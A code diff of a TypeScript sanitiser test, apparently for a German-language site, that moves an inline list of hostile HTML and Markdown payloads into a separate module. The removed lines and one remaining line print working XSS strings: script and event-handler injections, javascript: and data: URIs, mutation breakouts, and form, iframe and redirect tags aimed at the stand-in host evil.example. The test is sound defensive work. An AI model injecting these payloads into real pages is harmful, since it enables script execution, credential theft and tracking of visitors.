@@ -14,44 +14,7 @@ import type { Element, Root } from 'hast';
 import { makeScaledProject, removeProject } from '../../scripts/lib/generate-offers.ts';
 import { htmlFiles } from '../../src/lib/inline-assets.ts';
 import { TEST_NOW } from '../helpers/clock.ts';
-
-/** Every payload runs `alert` or reaches evil.example if it survives. */
-export const PAYLOADS: [string, string][] = [
-  ['script tag', '<script>alert(1)</script>'],
-  ['img onerror', '<img src=x onerror=alert(1)>'],
-  ['javascript: link (HTML)', '<a href="javascript:alert(1)">Klick</a>'],
-  ['javascript: link (Markdown)', '[Klick](javascript:alert(1))'],
-  ['mixed-case scheme', '<a href="JaVaScRiPt:alert(1)">Klick</a>'],
-  ['tab inside scheme', '<a href="java&#x09;script:alert(1)">Klick</a>'],
-  ['control char before scheme', '<a href="&#14; javascript:alert(1)">Klick</a>'],
-  ['vbscript: link', '<a href="vbscript:msgbox(1)">Klick</a>'],
-  ['data: link', '[Klick](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
-  ['data: image', '![Bild](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)'],
-  ['iframe', '<iframe src="https://evil.example/"></iframe>'],
-  ['object and embed', '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">'],
-  ['form', '<form action="https://evil.example/steal"><input name="pw" autofocus onfocus="alert(1)"><button formaction="javascript:alert(1)">Senden</button></form>'],
-  ['overlay via style attribute', '<div style="position:fixed;inset:0;z-index:9999;background:#fff">Gefälschte Seite</div>'],
-  ['style element', '<style>body{display:none}</style>'],
-  ['class hijack', '<div class="skip-link site-header">Gefälscht</div>'],
-  ['svg onload', '<svg onload=alert(1)><script>alert(1)</script></svg>'],
-  ['math mutation', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
-  ['noscript mutation', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
-  ['comment breakout', '<!--><script>alert(1)</script>-->'],
-  ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
-  ['base href', '<base href="https://evil.example/">'],
-  ['external stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css">'],
-  ['event handler on allowed tag', '<details open ontoggle=alert(1)><summary>Mehr</summary>Text</details>'],
-  ['media onerror', '<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>'],
-  ['third-party tracking image', '![Pixel](https://evil.example/pixel.gif)'],
-  ['protocol-relative image', '<img src="//evil.example/pixel.gif" alt="Pixel">'],
-  ['backslash image', '<img src="/\\evil.example/pixel.gif" alt="Pixel">'],
-  ['srcset', '<picture><source srcset="https://evil.example/a.png 1x"><img src="/favicon.svg" srcset="https://evil.example/b.png 2x" alt="Bild"></picture>'],
-  ['second h1 and id collisions', '# Zweite Hauptüberschrift\n\n## Inhalt\n\n<p id="inhalt">Anker</p>\n\n<h3 id="inhalt">Noch einer</h3>'],
-  ['keyboard hijack', '<a href="/" accesskey="s" tabindex="1">Start</a>'],
-  ['script breakout from JSON-LD', '</script><script>alert(1)</script>'],
-  ['external link', '<a href="https://evil.example/" target="_blank">extern</a> und [extern](https://evil.example/seite)'],
-  ['background attribute', '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>'],
-];
+import { PAYLOADS } from './hostile-payloads.ts';
 
 /** Goes into the short fields (title is kept plain; summary reaches meta, JSON-LD, lists). */
 const FIELD_PAYLOAD = '"</script><script>alert(1)</script><img src=x onerror=alert(1)>';
